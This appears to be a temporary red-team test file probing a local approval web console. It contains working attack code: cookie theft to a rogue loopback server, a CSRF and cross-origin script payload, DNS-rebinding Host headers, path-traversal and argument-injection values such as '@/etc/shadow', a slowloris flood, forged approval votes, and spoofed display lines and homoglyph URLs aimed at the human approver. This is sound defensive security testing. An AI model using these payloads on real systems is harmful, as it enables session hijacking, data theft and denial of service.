"""TEMPORARY red-team probes of the web console (delete after use)."""

from __future__ import annotations

import http.server
import json
import os
import socket
import subprocess
import threading
import time
import uuid

import pytest

from tests.helpers import rig
from tests.helpers.rig import connect_as, read_lines
from tests.integration.test_web_console import (  # noqa: F401  (fixtures)
    Web,
    browser,
    card,
    free_port,
    page,
    playwright,
    shot,
    web,
)


def R(*a):
    print("RESULT", *a, flush=True)


class Evil:
    """An HTTP server on another loopback port (as any local user could run)."""

    def __init__(self):
        self.port = free_port()
        self.seen: list[tuple[str, dict[str, str]]] = []
        self.routes: dict[str, tuple[str, bytes]] = {}
        outer = self

        class H(http.server.BaseHTTPRequestHandler):
            def log_message(self, *a):
                pass

            def _any(self):
                n = int(self.headers.get("content-length") or 0)
                body = self.rfile.read(n) if n else b""
                outer.seen.append((self.command + " " + self.path, dict(self.headers), body))
                ctype, out = outer.routes.get(self.path.split("?")[0], ("text/plain", b"ok"))
                self.send_response(200)
                self.send_header("Content-Type", ctype)
                self.send_header("Content-Length", str(len(out)))
                self.end_headers()
                self.wfile.write(out)

            do_GET = do_POST = _any

        self.srv = http.server.ThreadingHTTPServer(("127.0.0.1", self.port), H)
        self.t = threading.Thread(target=self.srv.serve_forever, daemon=True)
        self.t.start()

    def close(self):
        self.srv.shutdown()
        self.srv.server_close()


def pending(web: Web, match: str, timeout: float = 10.0) -> dict:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        with connect_as(web.daemon.control, web.op) as s:
            s.sendall(b'{"id":"c1","op":"pending"}\n')
            rep = read_lines(s, 1)[0]
        for p in rep["result"]["pending"]:
            if match in json.dumps(p["params"]):
                return p
        time.sleep(0.05)
    raise AssertionError(f"no pending {match}")


def post(web: Web, path: str, cookie: str, csrf: str, body: dict, **extra):
    h = {"Cookie": cookie, "X-CSRF-Token": csrf, "Origin": web.base,
         "Content-Type": "application/json", **extra}
    return web.http("POST", path, h, json.dumps(body).encode())


# --- (b)/(c) the session cookie is not port-scoped -------------------------------------------


def test_cookie_leaks_to_another_loopback_port_and_takes_over(web, browser):
    evil = Evil()
    try:
        evil.routes["/start"] = ("text/html", f'<a id="go" href="http://127.0.0.1:{evil.port}/land">x</a>'.encode())
        evil.routes["/land"] = ("text/html", b'<img src="/pixel"><p>hello</p>')
        ctx = browser.new_context()
        pg = ctx.new_page()
        pg.goto(web.link())
        pg.wait_for_selector("#status:text('connected')", timeout=10_000)
        # a cross-site page (localhost is another site than 127.0.0.1) links to the evil port
        pg.goto(f"http://localhost:{evil.port}/start")
        pg.click("#go")
        pg.wait_for_load_state("load")
        time.sleep(0.5)
        stolen = None
        for path, headers, _ in evil.seen:
            c = headers.get("Cookie", "")
            R("evil saw", path, "Cookie:", c[:60])
            if "cv_session=" in c:
                stolen = c.split("cv_session=", 1)[1].split(";")[0]
        R("STOLEN cookie:", bool(stolen))
        if stolen:
            cookie = f"cv_session={stolen}"
            status, text, _ = web.http("GET", "/", {"Cookie": cookie})
            import re
            csrf = re.search(r'name="csrf-token" content="([^"]+)"', text)[1]
            R("stolen session GET / ->", status, "csrf harvested")
            q = f"steal-{uuid.uuid4().hex[:6]}"
            with web.ask(q, action="search") as sock:
                p = pending(web, q)
                st, txt, _ = post(web, "/verdict", cookie, csrf,
                                  {"request": p["id"], "digest": p["digest"], "allow": True})
                R("attacker verdict with stolen cookie ->", st, txt[:200])
                R("gateway got", read_lines(sock, 1)[0].get("status"))
        ctx.close()
    finally:
        evil.close()


# --- (b) a malicious page: CSRF, cross-origin reads ----------------------------------------


def test_cross_origin_page_csrf_and_reads(web, browser):
    evil = Evil()
    try:
        c = web.base
        js = f"""
<script>
async function go() {{
  const rep = (k, v) => fetch('/report?' + k + '=' + encodeURIComponent(v));
  try {{ const r = await fetch('{c}/verdict', {{method:'POST', mode:'no-cors', credentials:'include',
        headers:{{'Content-Type':'text/plain'}}, body: JSON.stringify({{request:'p-x',digest:'0',allow:true}})}});
        rep('nocors', r.type + ' ' + r.status); }} catch (e) {{ rep('nocors', 'err ' + e); }}
  try {{ const r = await fetch('{c}/api/policy', {{credentials:'include'}}); rep('cors', r.status + ' ' + (await r.text()).slice(0,80)); }}
  catch (e) {{ rep('cors', 'err ' + e); }}
  const es = new EventSource('{c}/events', {{withCredentials:true}});
  es.onmessage = (m) => rep('sse', 'READ ' + m.data.slice(0,80));
  es.onerror = () => {{ rep('sse', 'error'); es.close(); }};
  const f = document.createElement('iframe'); f.src = '{c}/'; document.body.appendChild(f);
  f.onload = () => {{ try {{ rep('frame', f.contentDocument ? 'readable' : 'null'); }} catch (e) {{ rep('frame', 'blocked ' + e.name); }} }};
}}
go();
</script>
<form id="f" method="POST" action="{c}/verdict" enctype="text/plain">
<input name='{{"request":"p-x","digest":"0","allow":true,"x":"' value='"}}'></form>
"""
        evil.routes["/"] = ("text/html", js.encode())
        ctx = browser.new_context()
        pg = ctx.new_page()
        pg.goto(web.link())
        pg.wait_for_selector("#status:text('connected')", timeout=10_000)
        # same-site (127.0.0.1, other port) is the strongest web position: cookies are sent
        pg.goto(f"http://127.0.0.1:{evil.port}/")
        time.sleep(3)
        for path, _, _ in evil.seen:
            if path.startswith("GET /report"):
                R("page report", path)
        with pg.expect_navigation() as nav:
            pg.evaluate("document.getElementById('f').submit()")
        resp = nav.value
        R("text/plain form POST /verdict ->", resp.status if resp else None, pg.content()[:120])
        ctx.close()
    finally:
        evil.close()


def test_dns_rebinding_and_host_variants(web):
    import http.client
    for host in ("rebind.evil.example", f"127.0.0.1:{web.port}.evil.example", f"LOCALHOST:{web.port}",
                 "127.0.0.1", f"[::1]:{web.port}", ""):
        conn = http.client.HTTPConnection("127.0.0.1", web.port, timeout=5)
        conn.putrequest("GET", "/login?t=x", skip_host=True)
        if host:
            conn.putheader("Host", host)
        conn.endheaders()
        R("Host", repr(host), "->", conn.getresponse().status)
        conn.close()


# --- (c) an unprivileged local user ---------------------------------------------------------


def test_local_user(web, make_user):
    other = make_user()
    st = web.root / "web"
    R("state dir mode", oct(os.stat(st).st_mode), "links", oct(os.stat(st / "links").st_mode),
      "owner", os.stat(st / "links").st_uid == web.op.uid)
    r = subprocess.run(["ls", "-la", str(st / "links")], capture_output=True, text=True, **rig.as_user(other))
    R("other ls links:", r.returncode, r.stderr.strip()[:100])
    r = subprocess.run([str(rig.CLAWVISOR), "approver", "web", "--link", "--listen", f"127.0.0.1:{web.port}",
                        "--state-dir", str(st)], capture_output=True, text=True, timeout=30,
                       env={"PATH": os.environ["PATH"], "HOME": "/tmp"}, **rig.as_user(other))
    R("other mints link:", r.returncode, (r.stdout + r.stderr).strip()[-160:])
    for path in ("/", "/events", "/activity/events", "/api/policy", "/api/audit", "/api/audit/verify",
                 "/api/workloads", "/static/common.js", "/static/../app.py", "/static/%2e%2e/app.py",
                 "/static/..%2fapp.py", "/static/%2e%2e%2ftemplates/base.html"):
        s, t, _ = web.http("GET", path)
        R("no-session GET", path, "->", s, t[:40].replace("\n", " "))
    for path in ("/verdict", "/respond", "/api/explain", "/api/diff", "/logout"):
        s, t, _ = web.http("POST", path, {"Origin": web.base}, b"{}")
        R("no-session POST", path, "->", s, t[:50])
    # huge body without a session: read or refused?
    sk = socket.create_connection(("127.0.0.1", web.port))
    sk.sendall((f"POST /verdict HTTP/1.1\r\nHost: 127.0.0.1:{web.port}\r\nOrigin: {web.base}\r\n"
                f"Content-Length: 1000000000\r\n\r\n").encode() + b"x" * 65536)
    sk.settimeout(5)
    try:
        R("huge body no session ->", sk.recv(200)[:40])
    except TimeoutError:
        R("huge body no session -> no answer in 5 s")
    sk.close()
    limits = open(f"/proc/{web.proc.pid}/limits").read()
    R("console nofile:", [ln for ln in limits.splitlines() if "open files" in ln])


def test_slowloris_by_local_user(web, make_user):
    other = make_user()
    n = 1100
    script = f"""
import socket, time, sys
socks = []
for i in range({n}):
    try:
        s = socket.create_connection(("127.0.0.1", {web.port}))
        s.sendall(b"GET / HTTP/1.1\\r\\nHost: 127.0.0.1:{web.port}\\r\\n")
        socks.append(s)
    except OSError as e:
        print("connect failed at", i, e, flush=True); break
print("open", len(socks), flush=True)
time.sleep(25)
alive = 0
for s in socks:
    s.setblocking(False)
    try:
        d = s.recv(1)
        if d == b"": continue
        alive += 1
    except BlockingIOError:
        alive += 1
    except OSError:
        pass
print("still open after 25 s", alive, flush=True)
"""
    proc = subprocess.Popen(["/usr/bin/python3", "-c", script], stdout=subprocess.PIPE, text=True,
                            **rig.as_user(other))
    try:
        R("slowloris:", proc.stdout.readline().strip())
        time.sleep(3)
        cookie, csrf = None, None
        try:
            s, _, _ = web.http("GET", "/static/common.js")
            R("operator request during slowloris ->", s)
        except Exception as exc:  # noqa: BLE001
            R("operator request during slowloris -> FAILED", type(exc).__name__, exc)
        R("slowloris:", proc.stdout.readline().strip())
    finally:
        proc.kill()
        proc.wait()
    time.sleep(1)
    s, _, _ = web.http("GET", "/static/common.js")
    R("after slowloris ended ->", s)


# --- logout / expiry -------------------------------------------------------------------------


def _sse(web: Web, cookie: str, path="/events") -> socket.socket:
    s = socket.create_connection(("127.0.0.1", web.port), timeout=5)
    s.sendall(f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1:{web.port}\r\nCookie: {cookie}\r\n\r\n".encode())
    return s


def _read_for(s: socket.socket, secs: float) -> bytes:
    buf = b""
    end = time.monotonic() + secs
    while time.monotonic() < end:
        s.settimeout(max(0.05, end - time.monotonic()))
        try:
            d = s.recv(65536)
        except TimeoutError:
            break
        if not d:
            break
        buf += d
    return buf


def test_logout_and_open_streams(web):
    cookie, csrf = web.session()
    s = _sse(web, cookie)
    R("sse before logout:", _read_for(s, 1.0)[:60])
    st, t, h = post(web, "/logout", cookie, csrf, {})
    R("logout ->", st, t, h.get("set-cookie", "")[:80])
    R("GET / after logout ->", web.http("GET", "/", {"Cookie": cookie})[0])
    q = f"afterlogout-{uuid.uuid4().hex[:6]}"
    with web.ask(q, action="search"):
        pending(web, q)
        got = _read_for(s, 2.0)
        R("SSE stream opened before logout still delivers new asks:", q.encode() in got)
        p = pending(web, q)
        c2, x2 = web.session()
        post(web, "/verdict", c2, x2, {"request": p["id"], "digest": p["digest"], "allow": False})
    s.close()
    # logout with a session but without the token: refused (no logout CSRF)
    c3, _ = web.session()
    R("logout without csrf ->", web.http("POST", "/logout", {"Cookie": c3, "Origin": web.base}, b"")[0])
    # expiry (unit level)
    from supervisor.agents.web.auth import SESSION_TTL, LINK_TTL, Sessions, mint_link, use_link
    ss = Sessions()
    sid, sess = ss.open("u")
    R("session valid at TTL-1:", ss.get(sid, now=sess.created + SESSION_TTL - 1) is not None,
      "expired at TTL+1:", ss.get(sid, now=sess.created + SESSION_TTL + 1) is None)
    d = web.root / "unit-links"
    tok = mint_link(d)
    R("link used after TTL+1:", use_link(d, tok, now=time.time() + LINK_TTL + 1),
      "and gone after:", not any(d.iterdir()))


# --- (d) the verdict path ----------------------------------------------------------------------


def test_verdict_path(web):
    cookie, csrf = web.session()
    qa, qb = f"va-{uuid.uuid4().hex[:6]}", f"vb-{uuid.uuid4().hex[:6]}"
    with web.ask(qa, action="search") as sa, web.ask(qb, action="search") as sb:
        pa, pb = pending(web, qa), pending(web, qb)
        R("rule grant of search:", pa.get("grant"), "approvers", pa.get("approvers"))
        r = post(web, "/verdict", cookie, csrf, {"request": pa["id"], "digest": pb["digest"], "allow": True})
        R("A id + B digest ->", r[0], r[1][:120])
        for g in ("always", "30m"):
            r = post(web, "/verdict", cookie, csrf, {"request": pa["id"], "digest": pa["digest"], "allow": True, "grant": g})
            R(f"grant {g} on a once rule ->", r[0], r[1][:120])
        r = post(web, "/verdict", cookie, csrf, {"request": pa["id"], "digest": pa["digest"], "allow": True, "agent": "telegram"})
        R("extra agent field ->", r[0], r[1][:100])
        r = post(web, "/verdict", cookie, csrf, {"request": pa["id"], "digest": pa["digest"], "allow": True, "grant": "1y"})
        R("grant 1y ->", r[0], r[1][:100])
        r = post(web, "/verdict", cookie, csrf, {"request": pa["id"], "digest": pa["digest"], "allow": True, "release": 1000000})
        R("allow with release 1e6 ->", r[0], r[1][:200])
        R("gateway A:", read_lines(sa, 1)[0].get("status"))
        r = post(web, "/verdict", cookie, csrf, {"request": pa["id"], "digest": pa["digest"], "allow": True})
        R("replay ->", r[0], r[1][:120])
        r = post(web, "/verdict", cookie, csrf, {"request": pb["id"], "digest": pb["digest"], "allow": False, "reason": "x" * 256})
        R("deny B ->", r[0], "gateway B:", read_lines(sb, 1)[0].get("status"))


def test_quorum_one_human_two_principals(web, journal):
    """The quorum=2 rule (quorum.example): the same unix user votes as cli, then via web."""
    cookie, csrf = web.session()
    url = f"https://quorum.example/{uuid.uuid4().hex[:6]}"
    with web.ask(url) as sock:
        p = pending(web, url)
        with connect_as(web.daemon.control, web.op) as s:
            s.sendall(json.dumps({"id": "v1", "op": "verdict", "request": p["id"], "digest": p["digest"],
                                  "allow": True, "agent": "cli", "grant": "once"}).encode() + b"\n")
            R("op votes as cli ->", read_lines(s, 1)[0])
        # a second web session of the same console: same principal
        c2, x2 = web.session()
        r = post(web, "/verdict", cookie, csrf, {"request": p["id"], "digest": p["digest"], "allow": True})
        R("same op votes via web ->", r[0], r[1][:200])
        try:
            R("gateway:", read_lines(sock, 1, timeout=5)[0].get("status"))
        except Exception as exc:  # noqa: BLE001
            R("gateway: no answer", exc)
        r = post(web, "/verdict", c2, x2, {"request": p["id"], "digest": p["digest"], "allow": True})
        R("second web session vote ->", r[0], r[1][:150])
    # and as desktop: another label with the same uid principal
    url = f"https://quorum.example/{uuid.uuid4().hex[:6]}"
    with web.ask(url) as sock:
        p = pending(web, url)
        for agent in ("cli", "desktop"):
            with connect_as(web.daemon.control, web.op) as s:
                s.sendall(json.dumps({"id": "v1", "op": "verdict", "request": p["id"], "digest": p["digest"],
                                      "allow": True, "agent": agent}).encode() + b"\n")
                R(f"op votes as {agent} ->", str(read_lines(s, 1)[0])[:160])
        # any ops member can also label itself 'web' on the control socket directly
        with connect_as(web.daemon.control, web.op) as s:
            s.sendall(json.dumps({"id": "v1", "op": "verdict", "request": p["id"], "digest": p["digest"],
                                  "allow": True, "agent": "web"}).encode() + b"\n")
            R("op votes as raw 'web' agent (no console) ->", str(read_lines(s, 1)[0])[:200])
        try:
            R("gateway 2:", read_lines(sock, 1, timeout=5)[0].get("status"))
        except Exception as exc:  # noqa: BLE001
            R("gateway 2: no answer", exc)


# --- (e) the tools -------------------------------------------------------------------------


def test_tools_argv(web):
    cookie, csrf = web.session()
    for name in ("-h", "--help", "--", "-", "--config-dir"):
        r = post(web, "/api/explain", cookie, csrf, {"source": "alpha", "action": "open-url", "target": name,
                                                      "params": {"url": "https://x.example/"}})
        R(f"explain target={name!r} ->", r[0], json.loads(r[1]).get("output", r[1])[-140:].replace("\n", " | "))
        r = post(web, "/api/explain", cookie, csrf, {"source": name, "action": "open-url"})
        R(f"explain source={name!r} ->", r[0], json.loads(r[1]).get("output", r[1])[-120:].replace("\n", " | "))
        s, t, _ = web.http("GET", f"/api/audit?workload={name}", {"Cookie": cookie})
        R(f"audit workload={name!r} ->", s, t[-140:])
    for since in ("--", "-1", "--T", "+1", "1d"):
        s, t, _ = web.http("GET", f"/api/audit?since={since}", {"Cookie": cookie})
        R(f"audit since={since!r} ->", s, t[:140])
    for params in ({"url": "--config-dir=/"}, {"url": "@/etc/shadow"}, {"url": "x\n--help"}, {"-x": "1"}):
        r = post(web, "/api/explain", cookie, csrf, {"source": "alpha", "action": "open-url", "target": "alpha", "params": params})
        R(f"explain params={params!r} ->", r[0], json.loads(r[1]).get("output", r[1])[-160:].replace("\n", " | "))
    secret = web.root / "secretdir"
    secret.mkdir(exist_ok=True)
    (secret / "10.toml").write_text("password = 'hunter2-SECRET'\n[[rule\n")
    os.chown(secret, web.op.uid, web.op.gid)
    for d in ("/etc", "/root", str(secret), "/proc/self", f"/tmp/../{web.root}/web/links", "/dev/zero"):
        r = post(web, "/api/diff", cookie, csrf, {"dir": d})
        out = json.loads(r[1]).get("output", r[1])
        R(f"diff {d!r} ->", r[0], out[-200:].replace("\n", " | "), "| leaks secret:", "hunter2" in out)


# --- (a) a hostile workload ----------------------------------------------------------------


def test_hostile_params_in_browser(web, page):
    page.set_viewport_size({"width": 1280, "height": 900})
    tag = uuid.uuid4().hex[:5]
    q0 = f"probe{tag}" + "x" * 150
    with web.ask(q0, action="search"):
        c = card(page, f"probe{tag}")
        c.wait_for(timeout=5_000)
        cpl = page.evaluate(
            """() => { const pre = document.querySelector('#pending li.card pre.body');
            const s = document.createElement('span'); s.textContent = 'x'.repeat(100);
            pre.appendChild(s); const w = s.getBoundingClientRect().width / 100; s.remove();
            const cs = getComputedStyle(pre);
            const inner = pre.clientWidth - parseFloat(cs.paddingLeft) - parseFloat(cs.paddingRight);
            return Math.floor(inner / w); }"""
        )
        R("chars per line in pre.body:", cpl)
        c.locator("button.deny").click()
    # a value padded so a fake rule line starts a visual line of its own
    lead = f"weather in paris {tag} "
    fake = "rule policy.d/00-safe.toml:1; 59 s to answer; request p-0000000000"
    pad = cpl - len("query: ") - len(lead)
    q = lead + "." * pad + fake
    homo = f"https://\u0440\u0430ypal.com/{tag}"  # Cyrillic er, a
    with web.ask(q, action="search"), web.ask(homo):
        c = card(page, f"paris {tag}")
        c.wait_for(timeout=5_000)
        text = c.locator("pre.body").inner_text()
        R("card text:", text.replace("\n", " | "))
        starts = page.evaluate(
            """(fake) => { const pre = [...document.querySelectorAll('#pending li.card pre.body')]
                .find(p => p.textContent.includes(fake)); const t = pre.firstChild;
                const i = t.textContent.indexOf(fake); const r = document.createRange();
                r.setStart(t, i); r.setEnd(t, i + 4); const a = r.getBoundingClientRect();
                r.setStart(t, 0); r.setEnd(t, 1); const b = r.getBoundingClientRect();
                return [Math.round(a.left), Math.round(b.left), Math.round(a.top - b.top)]; }""",
            fake,
        )
        R("fake 'rule' line starts at x,(first char x), dy:", starts)
        shot(page, "rt-fake-rule-line")
        h = card(page, tag).filter(has_text="ypal")
        h.wait_for(timeout=5_000)
        R("homoglyph card:", h.locator("h3").inner_text(), "|", h.locator("pre.body").inner_text().split("\n")[0])
        c.locator("button.deny").click()
        h.locator("button.deny").click()
    # many asks: the daemon's cap
    socks = []
    try:
        for i in range(14):
            socks.append(web.ask(f"flood{tag}-{i}", action="search"))
        time.sleep(2)
        R("cards after 14 asks:", page.locator("#pending li.card", has_text=f"flood{tag}").count())
        codes = []
        for s in socks[10:]:
            try:
                codes.append(read_lines(s, 1, timeout=2)[0].get("status"))
            except Exception:  # noqa: BLE001
                codes.append("none")
        R("asks beyond 10:", codes)
    finally:
        for s in socks:
            s.close()
